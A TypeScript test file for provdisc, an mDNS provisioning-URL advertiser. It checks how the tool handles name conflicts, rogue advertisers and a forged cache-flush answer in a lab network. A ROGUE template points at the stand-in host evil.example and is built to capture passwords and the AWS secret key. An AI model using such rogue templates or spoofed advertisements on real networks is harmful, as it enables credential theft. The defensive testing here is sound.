/**
 * Name conflicts on the wire (issue 3 §2 probing, §3; issue 7 §1 after announcing): two provdisc
 * probing at once, a name already held by python-zeroconf or Avahi, a rogue claiming the name of a
 * live advertiser (defended, or stopped with --exit-on-conflict), one forged answer, and two
 * advertisers that disagree. Host c only watches (tshark) and discovers; a and b advertise.
 * provdisc never renames: for Jitsi a renamed instance is a missing one.
 */
import path from 'node:path';
import { beforeAll, describe, expect, test } from 'vitest';
import { TYPE, type CapturedPacket } from '../lab/capture.js';
import { REPO_ROOT, type LabHost } from '../lab/host.js';
import { SYSTEM_PYTHON, zeroconfRegister, zeroconfResolve } from '../lab/peers.js';
import type { SpawnedProcess } from '../lab/process.js';
import { requirePeers } from '../lab/requirements.js';
import { StartGate } from '../lab/start-gate.js';
import { useLab } from '../lab/vitest.js';
import { announcements, has, INSTANCE, instanceNamesSent, isMulticast, queriesFrom, responsesFrom, sleep, templateTxt } from './fixtures/wire.js';
import { defined } from '../defined.js';

const need = requirePeers(['tshark', 'zeroconf', 'avahi']);
// same length, so the TXT records (compared first, RFC 6762 §8.2) differ only at prov-a / prov-b
const TEMPLATE_A = 'https://prov-a.example/p.php?username=${username}&osname=${osname}';
const TEMPLATE_B = 'https://prov-b.example/p.php?username=${username}&osname=${osname}';
const WAIT_FOR_PROBE = path.join(REPO_ROOT, 'test/interop/fixtures/mdns_wait_probe.py');
const FORGE = path.join(REPO_ROOT, 'test/interop/fixtures/mdns_forge.py');
const ROGUE = 'https://evil.example/grab.php?username=${username}&password=${password}&secret=${env.AWS_SECRET_ACCESS_KEY}';

type Outcome = { announced: true } | { announced: false; code: number | null };

/** Waits until the advertiser either announced or exited. */
async function outcomeOf(adv: SpawnedProcess): Promise<Outcome> {
  try {
    await adv.waitForLine(/"event":"announced"/, 20_000);
    return { announced: true };
  } catch {
    // exited first (or never announced in time)
    return { announced: false, code: adv.running ? null : (await adv.exited).code };
  }
}

/**
 * Whether the error names `holder`: by its IPv4 or its IPv6 link-local address, whichever of its
 * answers (a holder on both families sends both at once) reached the advertiser first.
 */
function namesHolder(stderr: string, holder: LabHost): boolean {
  const addresses = [holder.ipv4, `${holder.iface('eth0').ipv6LinkLocal}%eth0`];
  return addresses.some((address) => stderr.includes(`already advertised by ${address} `));
}

/** provdisc advertise in `host` while `holder` holds the name: it must give up, naming the holder. */
async function expectRefused(host: LabHost, holder: LabHost, heldTemplate: string, watcher: LabHost): Promise<CapturedPacket[]> {
  const capture = await watcher.capture('eth0');
  const adv = host.spawnProvdisc(['advertise', '--json', TEMPLATE_A]);
  const exit = await adv.exited;
  const packets = await capture.stop();
  expect(exit.code, adv.tail()).toBe(1);
  const stderr = adv.lines.stderr.join('\n');
  expect(stderr).toMatch(/^provdisc: error: /m);
  expect(namesHolder(stderr, holder), stderr).toBe(true);
  expect(stderr).toContain(heldTemplate); // what the other host advertises, rebuilt from its TXT
  expect(stderr).not.toMatch(/\n\s+at /);
  expect(adv.lines.stdout.join('\n')).not.toMatch(/"event":"announced"/);
  // Nothing announced, no other name tried. Either it probed and heard the defence, or (RFC 6762
  // §8.1) one of the holder's own announcements, which go on for seconds after it took the name,
  // reached it in the random wait before its first probe, and it stopped without sending anything.
  expect(responsesFrom(packets, host.ipv4)).toEqual([]);
  const probed = queriesFrom(packets, host.ipv4).some((p) => p.questions.some((q) => q.name === INSTANCE && q.type === TYPE.ANY));
  const heldAnnounced = responsesFrom(packets, holder.ipv4).some((p) => has(p.answers, TYPE.TXT) !== undefined);
  expect(probed || heldAnnounced, 'neither a probe from the advertiser nor an answer from the holder on the wire').toBe(true);
  expect([...instanceNamesSent(packets, host.ipv4)]).toEqual(probed ? [INSTANCE] : []);
  return packets;
}

/** `discover --all` from `watcher` lists exactly `expected` ([from, type, template]) and warns, naming both templates. */
async function expectBothListed(watcher: LabHost, expected: [string, string, string][]): Promise<void> {
  const run = await watcher.provdisc(['discover', '--all', '--json', '--timeout', '2000']);
  expect(run.code, run.stderr).toBe(0);
  const found = (JSON.parse(run.stdout) as { template: string; from: string; type: string }[]).map((s) => [s.from, s.type, s.template]);
  expect(found.sort()).toEqual(expected.sort());
  expect(run.stderr).toMatch(/2 advertisers disagree/);
  for (const [, , template] of expected) expect(run.stderr).toContain(template);
}

describe(`name conflicts on one bridged link${need.note}`, { skip: need.skip }, () => {
  const lab = useLab({ topology: 'bridge' }, need);
  let a: LabHost;
  let b: LabHost;
  let c: LabHost;
  beforeAll(() => {
    [a, b, c] = [lab().host('a'), lab().host('b'), lab().host('c')];
  });

  test('simultaneous probes: the later records win even when the other host probes first; the loser exits 1 naming the winner', async () => {
    const capture = await c.capture('eth0');
    // A (the earlier records) goes first; B is let through once A's first probe is on the wire, so
    // B probes while A is still probing. B can then win only by the tie-break, not by coming first.
    const watch = c.spawn(SYSTEM_PYTHON, [WAIT_FOR_PROBE, c.ipv4, a.ipv4, '15']);
    await watch.waitForLine(/^listening$/, 5_000);
    const gateA = new StartGate(path.join(a.workDir, 'probe-a.gate'));
    const gateB = new StartGate(path.join(a.workDir, 'probe-b.gate'));
    const advA = a.spawnProvdisc(['advertise', '--json', TEMPLATE_A], { gate: gateA });
    const advB = b.spawnProvdisc(['advertise', '--json', TEMPLATE_B], { gate: gateB });
    await gateB.whenReady(1);
    await gateA.open(1);
    await watch.waitForLine(/^probe$/, 15_000);
    await gateB.open(1);
    const [outA, outB] = await Promise.all([outcomeOf(advA), outcomeOf(advB)]);
    // A is given the time to lose: its back-off, the check that follows, B's announcement
    await Promise.race([advA.exited, new Promise((r) => setTimeout(r, 5_000))]);
    const packets = await capture.stop();
    await Promise.all([advA.stop(), advB.stop()]);

    // §8.2: TXT (type 16) is compared before SRV; "prov-b" > "prov-a"
    expect(outB, `B did not announce:\n${advB.tail()}`).toEqual({ announced: true });
    expect(outA.announced, `A announced:\n${advA.tail()}`).toBe(false);
    expect((await advA.exited).code).toBe(1);
    expect(namesHolder(advA.lines.stderr.join('\n'), b), advA.tail()).toBe(true);

    // the order on the wire: A probed first, B probed before anyone announced
    const probes = (h: LabHost) => queriesFrom(packets, h.ipv4).filter((p) => p.authorities.some((r) => r.name === INSTANCE));
    const firstAnnouncement = defined(announcements(packets, b.ipv4)[0]);
    expect(defined(probes(a)[0]).time).toBeLessThan(defined(probes(b)[0]).time);
    expect(defined(probes(b)[0]).time).toBeLessThan(firstAnnouncement.time);
    expect(announcements(packets, a.ipv4)).toEqual([]);
    expect([...instanceNamesSent(packets, a.ipv4)]).toEqual([INSTANCE]);
  });

  test('a name held by python-zeroconf: provdisc exits 1, names the holder and its template, never renames', async () => {
    const held = await zeroconfRegister(b, { txt: templateTxt(TEMPLATE_B), server: `${b.name}.local.` });
    try {
      await expectRefused(a, b, TEMPLATE_B, c);
    } finally {
      await held.stop();
    }
  });

  test('a name held by avahi-publish: provdisc exits 1, names the holder and its template, never renames', async () => {
    const avahi = await b.startAvahi();
    try {
      await avahi.publish('Provisioning URL', '_https._tcp', 443, templateTxt(TEMPLATE_B));
      await expectRefused(a, b, TEMPLATE_B, c);
    } finally {
      await avahi.stop();
    }
  });

  test('--exit-on-conflict: a rogue claiming the name of a live advertiser (no probing) stops it, exit 1 naming it', async () => {
    const adv = a.spawnProvdisc(['advertise', '--json', '--exit-on-conflict', TEMPLATE_A]);
    await adv.waitForLine(/"event":"announced"/, 15_000);
    const rogue = await zeroconfRegister(b, { txt: templateTxt(ROGUE), server: `${b.name}.local.`, rogue: true });
    try {
      const exit = await Promise.race([adv.exited, new Promise<null>((r) => setTimeout(() => r(null), 10_000))]);
      expect(exit?.code, adv.tail()).toBe(1);
      // with --json every event, the conflict included, is a JSON line on stdout
      const events = adv.lines.stdout.map((l) => JSON.parse(l) as { event: string; from?: string; message?: string });
      const conflict = events.find((e) => e.event === 'conflict');
      expect(conflict).toMatchObject({ from: b.ipv4 });
      expect(defined(conflict).message).toContain(`already advertised by ${b.ipv4}`);
      expect(defined(conflict).message).toContain(ROGUE);
    } finally {
      await adv.stop();
      await rogue.stop();
    }
  });

  test('a rogue claiming the name of a live advertiser: reported with its address and template, defended, provdisc keeps running; discover --all lists both and warns', async () => {
    const adv = a.spawnProvdisc(['advertise', '--json', TEMPLATE_A]);
    await adv.waitForLine(/"event":"announced"/, 15_000);
    const rogue = await zeroconfRegister(b, { txt: templateTxt(ROGUE), server: `${b.name}.local.`, rogue: true });
    try {
      const line = await adv.waitForLine(/"event":"conflict"/, 10_000);
      const conflict = JSON.parse(line) as { from: string; advertises: string; action: string; message: string };
      expect(conflict).toMatchObject({ from: b.ipv4, advertises: ROGUE, action: 'defended' });
      expect(adv.lines.stderr.join('\n')).toContain(`provdisc: conflict: ${b.ipv4} (on eth0) answers for "${INSTANCE}" with ${ROGUE}`);
      // the rogue keeps answering: both stay visible from a third host, with a warning
      await expectBothListed(c, [
        [a.ipv4, '_https._tcp', TEMPLATE_A],
        [b.ipv4, '_https._tcp', ROGUE],
      ]);
      expect(adv.running, adv.tail()).toBe(true);
      // at most one conflict report per 30 s for that host, however often it answered
      expect(adv.lines.stdout.filter((l) => l.includes('"event":"conflict"') && l.includes(`"from":"${b.ipv4}"`))).toHaveLength(1);
    } finally {
      await adv.stop();
      await rogue.stop();
    }
  });

  test('a rogue holding the name when an interface changes: provdisc announces again without giving the name up, and keeps running', async () => {
    const adv = a.spawnProvdisc(['advertise', '--json', TEMPLATE_A]);
    await adv.waitForLine(/"event":"announced"/, 15_000);
    const rogue = await zeroconfRegister(b, { txt: templateTxt(ROGUE), server: `${b.name}.local.`, rogue: true });
    const extra = a.ipv4.replace(/\.\d+$/, '.77');
    try {
      await adv.waitForLine(/"event":"conflict"/, 10_000);
      // new sockets and a new probe: the rogue answers it
      expect((await a.run('ip', ['addr', 'add', `${extra}/24`, 'dev', 'eth0'])).code).toBe(0);
      await adv.waitForLine(new RegExp(`"event":"interfaces-changed".*${extra.replace(/\./g, '\\.')}`), 15_000);
      expect(adv.running, adv.tail()).toBe(true);
      expect(
        adv.lines.stdout.some((l) => l.includes('"action":"stopped"')),
        adv.tail(),
      ).toBe(false);
      await expectBothListed(c, [
        [a.ipv4, '_https._tcp', TEMPLATE_A],
        [b.ipv4, '_https._tcp', ROGUE],
      ]);
    } finally {
      await adv.stop();
      await rogue.stop();
      await a.run('ip', ['addr', 'del', `${extra}/24`, 'dev', 'eth0']);
    }
  });

  test('one forged cache-flush answer: reported, provdisc re-asserts its records at once and keeps running; a client asking 5 s later gets its template', async () => {
    const adv = a.spawnProvdisc(['advertise', '--json', TEMPLATE_A]);
    await adv.waitForLine(/"event":"announced"/, 15_000);
    await sleep(3_200); // announcements over, and the one-second hold-off after the last
    const capture = await c.capture('eth0');
    const forged = await b.run(SYSTEM_PYTHON, [FORGE, b.ipv4, INSTANCE, `${b.name}.local`, '443', ...templateTxt(ROGUE)]);
    expect(forged.stdout, forged.stderr).toBe('sent\n');
    const line = await adv.waitForLine(/"event":"conflict"/, 5_000);
    expect(JSON.parse(line)).toMatchObject({ from: b.ipv4, interface: 'eth0', advertises: ROGUE, action: 'defended', count: 1, total: 1 });
    await sleep(5_000);
    const [lookup] = await zeroconfResolve(c);
    const packets = await capture.stop();
    try {
      expect(lookup, JSON.stringify(lookup)).toMatchObject({ found: true, txt: templateTxt(TEMPLATE_A), addresses: [a.ipv4] });
      expect(adv.running, adv.tail()).toBe(true);
      // on the wire: the forged answer, then provdisc's own SRV and TXT with the cache-flush bit,
      // multicast at once (no multicast of them in the last second to hold it back)
      const forgery = defined(responsesFrom(packets, b.ipv4).find((p) => p.answers.some((r) => r.name === INSTANCE && r.cacheFlush)));
      expect(forgery).toBeDefined();
      const reassertion = defined(responsesFrom(packets, a.ipv4).find((p) => isMulticast(p) && p.time >= forgery.time));
      expect(reassertion, JSON.stringify(packets)).toBeDefined();
      expect((reassertion.time - forgery.time) * 1000).toBeLessThan(100);
      const txt = reassertion.answers.find((r) => r.name === INSTANCE && r.type === TYPE.TXT);
      expect(txt).toMatchObject({ cacheFlush: true, data: templateTxt(TEMPLATE_A) });
      expect(reassertion.answers.some((r) => r.name === INSTANCE && r.type === TYPE.SRV && r.cacheFlush)).toBe(true);
    } finally {
      await adv.stop();
    }
  });

  test('discover --all lists two advertisers that disagree (provdisc, and a rogue python-zeroconf) and warns', async () => {
    const adv = a.spawnProvdisc(['advertise', '--json', TEMPLATE_A]);
    await adv.waitForLine(/"event":"announced"/, 15_000);
    // the rogue takes the _http twin of the name: on the same name provdisc would stop (test above)
    const rogueTemplate = ROGUE.replace('https:', 'http:');
    const rogue = await zeroconfRegister(b, {
      txt: templateTxt(rogueTemplate),
      server: `${b.name}.local.`,
      port: 80,
      type: '_http._tcp.local.',
      rogue: true,
    });
    try {
      await expectBothListed(c, [
        [a.ipv4, '_https._tcp', TEMPLATE_A],
        [b.ipv4, '_http._tcp', rogueTemplate],
      ]);
      expect(adv.running).toBe(true);
    } finally {
      await adv.stop();
      await rogue.stop();
    }
  });
});
